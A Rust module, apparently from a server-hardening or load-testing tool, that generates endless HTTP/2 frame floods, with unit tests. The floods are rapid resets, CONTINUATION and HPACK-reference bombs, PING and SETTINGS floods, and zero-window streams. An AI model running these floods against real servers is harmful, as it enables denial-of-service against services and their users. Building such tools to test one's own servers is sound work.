//! Floods of frames (RFC 9113): what a hostile client of HTTP/2 sends, without an end.

use crate::http2::{PREFACE, flag, kind, push_frame};
use crate::options::HostileKind;

/// Bytes of frames that are made at once.
const PIECE_BYTES: usize = 16 << 10;
/// Frames that a client of `http2` needs not and a flood has.
const PRIORITY: u8 = 2;
const CONTINUATION: u8 = 9;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const ONE: [u8; 4] = [0, 0, 0, 1];
/// `INITIAL_WINDOW_SIZE` of 0: nothing may be sent on a stream.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Streams that a server lets a client have, at most.
const STREAMS: u32 = 100;
/// Field blocks (RFC 7541) of literals that no table keeps: `GET /livez`, and a `POST` there.
const GET: &[u8] = b"\x82\x86\x01\x01a\x04\x06/livez";
const POST: &[u8] = b"\x83\x86\x01\x01a\x04\x06/livez";
/// A field's value that is kept in the table, and how often a block refers to it.
const KEPT_BYTES: u8 = 120;
const REFERENCES: usize = 4_000;
const REFERENCE: u8 = 0xbe;

pub(super) const fn is_flood(kind: HostileKind) -> bool {
    use HostileKind::{Burst, Crowd, Heads, Hellos, Vanish};
    !matches!(kind, Heads | Hellos | Vanish | Crowd | Burst)
}

/// One connection's flood.
#[derive(Debug)]
pub(super) struct Flood {
    kind: HostileKind,
    /// Where watches that read nothing are.
    path: String,
    stream: u32,
    unsent: Vec<u8>,
}

impl Flood {
    pub(super) fn new(kind: HostileKind, path: &str) -> Self {
        let mut unsent = PREFACE.to_vec();
        let settings = if kind == HostileKind::DeafStreams { &NO_WINDOW[..] } else { &[] };
        push_frame(&mut unsent, kind::SETTINGS, 0, 0, settings);
        let mut flood = Self { kind, path: path.to_owned(), stream: 1, unsent };
        if kind == HostileKind::EmptyData {
            flood.request(POST, flag::END_HEADERS);
        } else if kind == HostileKind::Continuations {
            flood.request(GET, flag::END_STREAM);
        } else if kind == HostileKind::Blocks {
            let kept = [&[0x40, 1, b'x', KEPT_BYTES][..], &[b'x'; KEPT_BYTES as usize]].concat();
            flood.request(&[GET, &kept].concat(), flag::END_HEADERS | flag::END_STREAM);
        }
        flood
    }

    /// What is to be sent next; nothing: it has said all.
    pub(super) fn next(&mut self) -> &[u8] {
        if self.unsent.is_empty() {
            while self.unsent.len() < PIECE_BYTES && self.push() {}
        }
        &self.unsent
    }

    pub(super) fn sent(&mut self, bytes: usize) {
        self.unsent.drain(..bytes);
    }

    fn request(&mut self, block: &[u8], flags: u8) {
        push_frame(&mut self.unsent, kind::HEADERS, flags, self.stream, block);
        self.stream += 2;
    }

    /// Whether there is one more.
    fn push(&mut self) -> bool {
        const WHOLE: u8 = flag::END_HEADERS | flag::END_STREAM;
        let (stream, out) = (self.stream, &mut self.unsent);
        match self.kind {
            HostileKind::Resets => {
                self.request(GET, WHOLE);
                push_frame(&mut self.unsent, kind::RST_STREAM, 0, stream, &CANCEL);
            }
            // An increment of 0 is an error of the stream: the server resets it.
            HostileKind::Provoked => {
                self.request(POST, flag::END_HEADERS);
                push_frame(&mut self.unsent, kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            HostileKind::Pings => push_frame(out, kind::PING, 0, 0, b"not idle"),
            HostileKind::SettingsFrames => push_frame(out, kind::SETTINGS, 0, 0, &[]),
            HostileKind::Priorities => push_frame(out, PRIORITY, 0, 3, &[0, 0, 0, 0, 16]),
            HostileKind::Windows => push_frame(out, kind::WINDOW_UPDATE, 0, 0, &ONE),
            HostileKind::EmptyData => push_frame(out, kind::DATA, 0, 1, &[]),
            HostileKind::Continuations => push_frame(out, CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
            HostileKind::Blocks => self.request(&[GET, &[REFERENCE; REFERENCES]].concat(), WHOLE),
            HostileKind::DeafStreams => {
                if stream > 2 * STREAMS {
                    return false;
                }
                let path = self.path.clone();
                let length = u8::try_from(path.len().min(126)).unwrap_or(126);
                let block = [&GET[..5], &[4, length], &path.as_bytes()[..usize::from(length)]].concat();
                self.request(&block, WHOLE);
                return true;
            }
            HostileKind::Heads
            | HostileKind::Hellos
            | HostileKind::Vanish
            | HostileKind::Crowd
            | HostileKind::Burst => return false,
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http2::{HEAD_BYTES, Head};

    /// Type and stream of the frames after the preface.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32)> {
        let mut frames = Vec::new();
        while let Some((head, rest)) = bytes.split_first_chunk::<HEAD_BYTES>() {
            let head = Head::read(*head);
            frames.push((head.kind, head.stream));
            bytes = &rest[head.length..];
        }
        frames
    }

    #[test]
    fn each_flood_is_of_whole_frames_and_goes_on() {
        for (kind, expected) in [
            (HostileKind::Resets, &[(1, 1), (3, 1), (1, 3), (3, 3)][..]),
            (HostileKind::Provoked, &[(1, 1), (8, 1), (1, 3), (8, 3)]),
            (HostileKind::Pings, &[(6, 0), (6, 0)]),
            (HostileKind::SettingsFrames, &[(4, 0), (4, 0)]),
            (HostileKind::Priorities, &[(2, 3), (2, 3)]),
            (HostileKind::Windows, &[(8, 0), (8, 0)]),
            (HostileKind::EmptyData, &[(0, 1), (0, 1)]),
            (HostileKind::Continuations, &[(9, 1), (9, 1)]),
            (HostileKind::Blocks, &[(1, 3), (1, 5)]),
        ] {
            assert!(is_flood(kind));
            let mut flood = Flood::new(kind, "/watch");
            let first = flood.next().len();
            assert!(flood.next().starts_with(PREFACE), "{kind:?}");
            flood.sent(first);
            for _ in 0..3 {
                let piece = flood.next().to_vec();
                assert!(piece.len() >= PIECE_BYTES, "{kind:?}");
                flood.sent(piece.len());
                flood.next();
            }
            let mut again = Flood::new(kind, "/watch");
            again.sent(first);
            assert!(frames(again.next()).starts_with(expected), "{kind:?}");
        }
    }

    #[test]
    fn streams_that_read_nothing_are_as_many_as_a_connection_may_have() {
        let mut flood = Flood::new(HostileKind::DeafStreams, "/watch?watch=1");
        let first = flood.next().len();
        flood.sent(first);
        let streams = flood.next().to_vec();
        assert_eq!(frames(&streams).len(), STREAMS as usize);
        flood.sent(streams.len());
        assert_eq!(flood.next(), b"", "and no more");
    }
}
